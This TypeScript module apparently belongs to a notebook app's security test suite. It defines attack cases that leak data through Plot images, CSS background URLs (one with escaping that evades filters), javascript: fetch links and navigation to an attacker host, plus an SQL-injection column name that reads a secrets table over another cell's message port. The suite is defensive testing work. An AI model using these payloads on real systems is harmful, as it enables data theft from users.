import { cell, idOf, stolen, type Attack, type Ears } from "../attack";

/** A figure that a cell records: heard where the record is replayed without a look at it. */
const draws = (
  name: string,
  way: string,
  code: (ears: Ears) => string,
  more: Partial<Attack> = {},
): Attack => ({
  name,
  door: "figure",
  way,
  without: ["figure guard", "figure looked through", "page policy"],
  plant: (ears) => ({ cells: cell("ts", name, `return ${code(ears)};`) }),
  ...more,
});

/** A picture is asked for the moment it is made, before anybody can look through the figure. */
const GUARDED = { without: ["figure guard", "page policy"] } as const;

const rows = "[{ x: 1, y: 1 }, { x: 2, y: 2 }]";
const image = (options: string) =>
  `Plot.plot({ marks: [Plot.image(${rows}, { x: "x", y: "y", ${options} })] })`;
const linked = (address: string) =>
  `Plot.plot({ marks: [Plot.dot([{ x: 1, y: 1, link: ${JSON.stringify(address)} }], { x: "x", y: "y", href: "link" })] })`;
const styled = (options: string) =>
  `Plot.plot({ ${options}, marks: [Plot.dot(${rows}, { x: "x", y: "y" })] })`;

export default [
  draws("figure-image", "image", ({ http }) => image(`src: () => "${http}/x.png"`), GUARDED),
  draws("figure-image-same", "image", ({ http }) => image(`src: "${http}/x.png"`), GUARDED),
  draws("figure-image-own", "same origin, with a query", ({ own }) => image(`src: () => "${own}"`), GUARDED),
  draws("figure-style", "style", ({ http }) => styled(`style: { background: "url('${http}/x.png')" }`)),
  draws("figure-style-text", "style", ({ http }) => styled(`style: "background: url(${http}/x.png)"`)),
  draws("figure-style-escaped", "style", ({ http }) =>
    styled(`style: "background: \\\\75 rl(${http}/x.png)"`),
  ),
  draws("figure-style-set", "style", ({ http }) =>
    styled(`style: "background: image-set('${http}/x.png' 1x)"`),
  ),
  draws("figure-link-script", "script", ({ http }) => linked(`javascript:fetch('${http}/x')`), {
    press: true,
  }),
  draws("figure-link", "navigation", ({ http, secret }) => linked(`${http}/${secret}`), {
    press: true,
    alone: true,
  }),
  {
    name: "ts-other-table",
    door: "ts",
    way: "table of another cell",
    without: ["own port", "given columns", "quoted names"],
    plant: ({ secret }) => {
      const name = "ts-other-table";
      const bait = `${idOf(name)}_bait`;
      const column = 'customer", (SELECT customer FROM notebook."secrets") AS "found';
      const code = `const bait = ${bait};
const port = (Math as any).port;
if (!port) return "tried, without a port";
return await new Promise((go) => {
  const before = port.onmessage;
  port.onmessage = (event: any) => {
    const { data } = event;
    if (data.ask !== 999) return before(event);
    const found = data.is === "rows" ? String(data.batch.values.flat()) : "";
    go(found.includes(${JSON.stringify(secret)}) ? ${JSON.stringify(stolen(name, ""))} + ${JSON.stringify(secret)} : "refused");
  };
  port.postMessage({ is: "ask", ask: 999, of: { name: "${bait}", columns: [${JSON.stringify(column)}], limit: null } });
});`;
      return {
        cells: [cell("sql", `${name}-bait`, "SELECT 'bait' AS customer"), cell("ts", name, code)].join("\n"),
      };
    },
  },
] satisfies Attack[];
